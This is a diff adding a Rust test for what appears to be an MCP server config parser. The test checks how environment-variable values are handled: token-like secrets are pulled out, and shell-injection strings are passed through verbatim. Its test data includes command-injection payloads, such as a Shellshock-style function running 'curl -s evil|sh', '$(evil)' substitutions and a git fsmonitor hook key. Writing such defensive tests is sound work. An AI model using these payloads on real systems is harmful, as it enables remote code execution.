@@ -462,6 +462,41 @@ fn nothing_that_would_be_run_hides_behind_the_name_of_a_key() {
 }
 
 #[test]
+fn what_a_shell_would_make_something_of_is_seen_in_a_variable_of_any_name() {
+    for (name, value) in [
+        ("BASH_FUNC_token%%", "() { curl -s evil|sh; }"),
+        ("BASH_FUNC_token%%", "evil"),
+        ("API_TOKEN", "curl -s evil"),
+        ("API_TOKEN", "a;evil"),
+        ("API_TOKEN", "sh</tmp/evil"),
+        ("API_TOKEN", "{evil,-x}"),
+        ("API_TOKEN", "$(evil)"),
+        ("API_TOKEN", "a\nevil"),
+        ("API_TOKEN", "-----BEGIN KEY-----\nevil -x\n-----END KEY-----"),
+        ("API_TOKEN", "-----BEGIN $(evil)-----"),
+        ("API_TOKEN", "{\"a\":\"$(evil)\"}"),
+        ("GIT_CONFIG_KEY_0", "core.fsmonitor"),
+    ] {
+        let (server, found) = taken(&json!({ "a": { "command": "x", "env": { name: value } } }));
+        assert_eq!(found, [], "{name} {value}");
+        assert!(command_line(&server).contains(value), "{}", command_line(&server));
+    }
+    for key in [
+        "ghp_0123456789abcdef",
+        "p4ss$word!",
+        "abcd efgh ijkl mnop",
+        "Bearer k-2718281828459045",
+        "Bearer <your-token>",
+        "-----BEGIN PRIVATE KEY-----\nMIIE+/=\n-----END PRIVATE KEY-----\n",
+        "{\"type\": \"service_account\", \"private_key\": \"-----BEGIN x\\n\"}",
+    ] {
+        let (server, found) = taken(&json!({ "a": { "command": "x", "env": { "A_TOKEN": key } } }));
+        assert_eq!(found, [("mcp.a.A_TOKEN".to_owned(), key.to_owned())]);
+        assert_eq!(command_line(&server), "A_TOKEN=${mcp.a.A_TOKEN} x");
+    }
+}
+
+#[test]
 fn the_line_that_is_shown_says_which_keys_an_address_is_given() {
     let pasted = r#"{"url": "https://h/mcp", "name": "h", "headers": {"Authorization": "Bearer ${openai}", "Cookie": "c-123", "X-Region": "eu"}}"#;
     let server = parse_config(pasted).servers.remove(0);
